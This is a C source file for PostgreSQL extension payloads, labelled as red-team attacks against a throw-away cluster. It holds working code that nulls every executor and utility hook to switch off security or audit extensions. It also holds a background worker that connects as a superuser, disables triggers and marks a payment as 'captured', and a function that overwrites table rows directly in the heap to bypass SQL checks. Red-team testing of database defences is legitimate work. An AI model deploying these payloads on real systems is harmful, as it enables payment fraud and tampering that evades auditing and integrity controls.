/* Red-team native payloads, used only by attacks 327 / 328 / 338 against the throw-away cluster. */
#include "postgres.h"
#include "fmgr.h"
#include "access/heapam.h"
#include "access/relation.h"
#include "access/table.h"
#include "access/xact.h"
#include "catalog/objectaccess.h"
#include "commands/trigger.h"
#include "executor/executor.h"
#include "executor/spi.h"
#include "miscadmin.h"
#include "postmaster/bgworker.h"
#include "storage/bufmgr.h"
#include "tcop/utility.h"
#include "utils/builtins.h"
#include "utils/rel.h"
#include "utils/snapmgr.h"
PG_MODULE_MAGIC;

#ifdef UNHOOK
void _PG_init(void);
void
_PG_init(void)
{
	ProcessUtility_hook = NULL;
	object_access_hook = NULL;
	ExecutorStart_hook = NULL;
	ExecutorRun_hook = NULL;
	ExecutorFinish_hook = NULL;
	ExecutorEnd_hook = NULL;
	ExecutorCheckPerms_hook = NULL;
	SessionReplicationRole = SESSION_REPLICATION_ROLE_REPLICA;	/* no GUC hook involved */
}
#elif defined(BGW)
PGDLLEXPORT void rt_main(Datum arg);
PG_FUNCTION_INFO_V1(rt_launch);
Datum
rt_launch(PG_FUNCTION_ARGS)
{
	BackgroundWorker w;
	char	   *db = text_to_cstring(PG_GETARG_TEXT_PP(0));

	memset(&w, 0, sizeof(w));
	w.bgw_flags = BGWORKER_SHMEM_ACCESS | BGWORKER_BACKEND_DATABASE_CONNECTION;
	w.bgw_start_time = BgWorkerStart_RecoveryFinished;
	w.bgw_restart_time = BGW_NEVER_RESTART;
	strlcpy(w.bgw_library_name, text_to_cstring(PG_GETARG_TEXT_PP(1)), BGW_MAXLEN);
	strlcpy(w.bgw_function_name, "rt_main", BGW_MAXLEN);
	strlcpy(w.bgw_name, "rt_bgw", BGW_MAXLEN);
	strlcpy(w.bgw_extra, db, BGW_EXTRALEN);
	RegisterDynamicBackgroundWorker(&w, NULL);
	PG_RETURN_VOID();
}
void
rt_main(Datum arg)
{
	BackgroundWorkerUnblockSignals();
	BackgroundWorkerInitializeConnection(MyBgworkerEntry->bgw_extra, "pay_super", 0);
	SessionReplicationRole = SESSION_REPLICATION_ROLE_REPLICA;
	StartTransactionCommand();
	PushActiveSnapshot(GetTransactionSnapshot());
	SPI_connect();
	SPI_execute("ALTER TABLE pay.payment DISABLE TRIGGER USER", false, 0);
	SPI_execute("UPDATE pay.payment SET status = 'captured' WHERE id = 2", false, 0);
	SPI_execute("ALTER TABLE pay.payment ENABLE TRIGGER USER", false, 0);
	SPI_finish();
	PopActiveSnapshot();
	CommitTransactionCommand();
}
#else
/* rt_poke(rel, tid, attnum, text): overwrite one text attribute with simple_heap_update */
PG_FUNCTION_INFO_V1(rt_poke);
Datum
rt_poke(PG_FUNCTION_ARGS)
{
	Relation	rel = table_open(PG_GETARG_OID(0), RowExclusiveLock);
	ItemPointer tid = (ItemPointer) PG_GETARG_POINTER(1);
	int			att = PG_GETARG_INT32(2);
	HeapTupleData old;
	Buffer		buf;
	HeapTuple	newt;
	Datum		values[64];
	bool		nulls[64] = {0}, repl[64] = {0};

	old.t_self = *tid;
	if (!heap_fetch(rel, GetActiveSnapshot(), &old, &buf, false))
		elog(ERROR, "no such tuple");
	values[att - 1] = PointerGetDatum(PG_GETARG_TEXT_PP(3));
	repl[att - 1] = true;
	newt = heap_modify_tuple(&old, RelationGetDescr(rel), values, nulls, repl);
	ReleaseBuffer(buf);
#if PG_VERSION_NUM >= 160000
	{
		TU_UpdateIndexes update_indexes;

		simple_heap_update(rel, &newt->t_self, newt, &update_indexes);
	}
#else
	simple_heap_update(rel, &newt->t_self, newt);
#endif
	table_close(rel, NoLock);
	PG_RETURN_VOID();
}
#endif
